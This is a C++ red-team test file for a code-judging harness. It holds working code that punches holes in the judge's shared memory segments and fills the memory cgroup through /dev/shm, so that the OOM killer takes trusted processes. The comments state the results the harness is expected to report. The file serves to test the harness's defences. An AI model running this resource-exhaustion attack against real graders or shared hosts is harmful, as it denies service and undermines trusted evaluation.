// ATTACK (round 8, against 0c35a73's pre-allocation of the shared segments):
// CreateSegment (shm.cc) fallocate()s every data memfd when the judge makes
// it, so no trusted process first-touches segment pages after candidate
// code ran. The candidate holds its own data segments' descriptors (O_RDWR
// memfds, sealed against shrink/grow only): in pkf_setup every rank
// FALLOC_FL_PUNCH_HOLEs its data segment(s) (the pages go back), then rank 0
// fills the memory cgroup with a /dev/shm file to 8 MiB short of its limit
// (as tmpfs_file_oom_blame). The reference ranks' next writes of the
// candidate's inputs (kOpGen copies, drip decoys) fault the pages in again,
// charged at the limit: the OOM killer takes the candidate ranks (score
// 1000; frees nothing: the file stays), then a trusted process.
// The file's path is left in $PKF_REDTEAM_DIR/shmfile (the test removes it).
// EXPECT: RUNTIME_ERROR (out of memory: the OOM rule of 0c35a73) or
// SETUP_ERROR / TIMEOUT; never HARNESS_ERROR, never no result.
#include <dirent.h>
#include <linux/falloc.h>
#include <sys/stat.h>

#include "kernels/testdata/redteam/redteam.h"

static void CgroupMemory(int64_t* limit, int64_t* usage) {
  *limit = *usage = -1;
  const std::string self = rt_read("/proc/self/cgroup");
  size_t pos = 0;
  while (pos < self.size()) {
    size_t end = self.find('\n', pos);
    if (end == std::string::npos) end = self.size();
    const std::string line = self.substr(pos, end - pos);
    pos = end + 1;
    const size_t a = line.find(':'), b = line.find(':', a + 1);
    if (a == std::string::npos || b == std::string::npos) continue;
    const std::string ctl = line.substr(a + 1, b - a - 1), path = line.substr(b + 1);
    std::string lim, use;
    if (ctl == "memory") {
      lim = rt_read("/sys/fs/cgroup/memory" + path + "/memory.limit_in_bytes");
      use = rt_read("/sys/fs/cgroup/memory" + path + "/memory.usage_in_bytes");
    } else if (ctl.empty()) {
      lim = rt_read("/sys/fs/cgroup" + path + "/memory.max");
      use = rt_read("/sys/fs/cgroup" + path + "/memory.current");
    }
    if (!lim.empty() && !use.empty() && lim.rfind("max", 0) != 0) {
      *limit = atoll(lim.c_str());
      *usage = atoll(use.c_str());
      return;
    }
  }
}

// Punches out every data memfd this process holds; returns the bytes.
static int64_t PunchDataSegments() {
  int64_t total = 0;
  DIR* d = opendir("/proc/self/fd");
  if (d == NULL) return 0;
  while (dirent* e = readdir(d)) {
    const int fd = atoi(e->d_name);
    if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
    char link[256] = {0};
    const std::string p = std::string("/proc/self/fd/") + e->d_name;
    if (readlink(p.c_str(), link, sizeof link - 1) <= 0) continue;
    if (strstr(link, "memfd:pkf-") == NULL) continue;
    struct stat st;
    if (fstat(fd, &st) != 0 || st.st_size <= 0) continue;
    const int rc = fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, st.st_size);
    rt_log("fd %d %s (%lld bytes): punch hole %s", fd, link, (long long)st.st_size,
           rc == 0 ? "ok" : strerror(errno));
    if (rc == 0 && strstr(link, "data") != NULL) total += st.st_size;
  }
  closedir(d);
  return total;
}

extern "C" int pkf_setup(pkf_context* ctx) {
  const int64_t punched = PunchDataSegments();
  rt_log("rank %d punched %lld MiB", ctx->rank, (long long)(punched >> 20));
  if (ctx->rank != 0) return 0;
  int64_t limit = -1, usage = -1;
  CgroupMemory(&limit, &usage);
  if (limit <= 0 || limit > (int64_t{8} << 30)) {
    rt_log("no memory limit below 8 GiB (%lld): nothing written", (long long)limit);
    return 0;
  }
  char path[128];
  snprintf(path, sizeof path, "/dev/shm/pkf-redteam-oom-%d", (int)getpid());
  const int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
  if (fd < 0) {
    rt_log("open %s: %s", path, strerror(errno));
    return 0;
  }
  rt_append("shmfile", path);
  static char chunk[1 << 20];
  memset(chunk, 0x5a, sizeof chunk);
  int64_t total = 0;
  for (;;) {
    CgroupMemory(&limit, &usage);
    if (usage < 0 || usage + (int64_t{9} << 20) > limit) break;
    if (write(fd, chunk, sizeof chunk) != (ssize_t)sizeof chunk) break;
    total += sizeof chunk;
  }
  close(fd);
  rt_log("wrote %lld MiB into %s; cgroup usage %lld of %lld MiB", (long long)(total >> 20), path,
         (long long)(usage >> 20), (long long)(limit >> 20));
  return 0;
}
extern "C" int pkf_run(pkf_context* ctx, const pkf_tensor* in, int32_t n_in, pkf_tensor* out,
                       int32_t n_out, void* stream) {
  return pkf_run_correct(ctx, in, n_in, out, n_out, stream);
}
